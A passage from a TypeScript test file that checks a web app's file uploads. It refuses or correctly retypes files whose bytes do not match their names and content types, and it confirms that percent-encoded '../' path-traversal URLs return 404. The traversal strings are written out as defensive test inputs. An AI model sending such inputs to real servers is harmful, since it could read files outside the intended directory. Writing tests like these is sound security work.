      target: 'avatar',
      what: 'a genuine PNG named me.pdf',
      bytes: PNG_1x1,
      filename: 'me.pdf',
      contentType: 'application/pdf',
      stored: { ext: 'png', type: 'image/png' },
    },
    {
      target: 'avatar',
      what: 'a genuine GIF named me.svg',
      bytes: GIF_1x1,
      filename: 'me.svg',
      contentType: 'image/svg+xml',
      stored: { ext: 'gif', type: 'image/gif' },
    },
    {
      target: 'logo',
      what: 'a genuine PDF named logo.png',
      bytes: PDF,
      filename: 'logo.png',
      contentType: 'image/png',
    },
    {
      target: 'logo',
      what: 'a genuine JPEG named logo.gif',
      bytes: JPEG,
      filename: 'logo.gif',
      contentType: 'image/gif',
    },
    {
      target: 'logo',
      what: 'a genuine SVG named logo.png',
      bytes: SVG,
      filename: 'logo.png',
      contentType: 'image/png',
    },
    {
      target: 'logo',
      what: 'a genuine PNG named brand.pdf',
      bytes: PNG_1x1,
      filename: 'brand.pdf',
      contentType: 'application/pdf',
      stored: { ext: 'png', type: 'image/png' },
    },
    {
      target: 'example image',
      what: 'a genuine PDF named shot.jpg',
      bytes: PDF,
      filename: 'shot.jpg',
      contentType: 'image/jpeg',
    },
    {
      target: 'example image',
      what: 'a genuine PNG named shot.jpg',
      bytes: PNG_1x1,
      filename: 'shot.jpg',
      contentType: 'image/jpeg',
    },
    {
      target: 'example image',
      what: 'a genuine SVG named shot.png',
      bytes: SVG,
      filename: 'shot.png',
      contentType: 'image/png',
    },
    {
      target: 'example image',
      what: 'a genuine GIF named shot.docx',
      bytes: GIF_1x1,
      filename: 'shot.docx',
      contentType: DOC_MIME,
      stored: { ext: 'gif', type: 'image/gif' },
    },
    {
      target: 'draft document',
      what: 'a genuine PNG named report.pdf',
      bytes: PNG_1x1,
      filename: 'report.pdf',
      contentType: 'application/pdf',
    },
    {
      target: 'draft document',
      what: 'a genuine JPEG named draft.docx',
      bytes: JPEG,
      filename: 'draft.docx',
      contentType: DOC_MIME,
    },
    {
      target: 'draft document',
      what: 'a genuine PDF named draft.docx',
      bytes: PDF,
      filename: 'draft.docx',
      contentType: DOC_MIME,
      stored: { ext: 'pdf', type: 'application/pdf' },
    },
    {
      target: 'draft document',
      what: 'a genuine .docx named draft.pdf',
      bytes: docx(),
      filename: 'draft.pdf',
      contentType: 'application/pdf',
      stored: { ext: 'docx', type: DOC_MIME },
    },
    {
      target: 'draft document',
      what: 'a genuine .doc named draft.png',
      bytes: DOC,
      filename: 'draft.png',
      contentType: 'image/png',
      stored: { ext: 'doc', type: 'application/msword' },
    },
  ];

  let uploader: Agent;
  beforeAll(async () => {
    // a brand of its own: the corpus above has used up part of the shared brand's daily uploads
    ({ agent: uploader } = await signedIn(t.app, t.db, kinds.approvedBrand));
  });

  it('every route is covered both ways: refused when the bytes are not its type, typed by the bytes when they are', () => {
    for (const target of TARGETS) {
      const mine = CASES.filter((c) => c.target === target.label);
      expect(
        mine.some((c) => c.stored),
        target.label,
      ).toBe(true);
      expect(
        mine.some((c) => !c.stored),
        target.label,
      ).toBe(true);
    }
  });

  for (const c of CASES) {
    it(`${c.target}: ${c.what} → ${c.stored ? `stored as .${c.stored.ext}, served as ${c.stored.type}` : '415'}`, async () => {
      const target = TARGETS.find((x) => x.label === c.target)!;
      const who = c.target === 'avatar' ? uploader : admin;
      const stored = () => (existsSync(t.uploadsDir) ? readdirSync(t.uploadsDir).length : 0);
      const before = stored();
      const res = await who.upload(target.url, target.field, c.bytes, c.filename, c.contentType);
      if (!c.stored) {
        expect(res.status, res.text).toBe(415);
        expect(typeof res.body.message).toBe('string');
        expect(stored()).toBe(before);
        return;
      }
      expect(res.status, res.text).toBe(200);
      const url: string = res.body.url ?? res.body.path;
      const name = url.split('/').pop()!;
      expect(name).toMatch(new RegExp(`^[0-9a-f]{32}\\.${c.stored.ext}$`));
      expect(readFileSync(path.join(t.uploadsDir, name)).equals(c.bytes)).toBe(true);
      const served = c.target === 'draft document' ? await admin.get(url) : await new Agent(t.app).get(url);
      expect(served.status).toBe(200);
      expect(served.headers['content-type']).toBe(c.stored.type);
      expect(served.headers['x-content-type-options']).toBe('nosniff');
    });
  }
});

/**
 * Reading goes through the same stored-name check: a name that climbs out of the uploads directory
 * (sent percent-encoded, so the router hands it over whole) is a 404 even when a real image waits
 * there (a weakened name check in file-store.ts serves it).
 */
describe('reading never leaves the uploads directory', () => {
  it('GET /uploads/ with an encoded ../ to a real image outside it → 404', async () => {
    const dataDir = path.dirname(t.uploadsDir);
    const outside = path.join(path.dirname(dataDir), `byline-outside-${path.basename(dataDir)}.png`);
    writeFileSync(outside, PNG_1x1);
    try {
      for (const url of [
        `/uploads/..%2F..%2F${path.basename(outside)}`,
        `/uploads/..%2f..%2f${path.basename(outside)}`,
        `/uploads/%2E%2E%2F%2E%2E%2F${path.basename(outside)}`,
      ]) {
        const res = await t.app.inject({ method: 'GET', url, headers: { host: 'localhost:80' } });
        expect(res.statusCode, url).toBe(404);
        expect(res.rawPayload.equals(PNG_1x1), url).toBe(false);
      }
    } finally {
      rmSync(outside, { force: true });
    }
  });
});
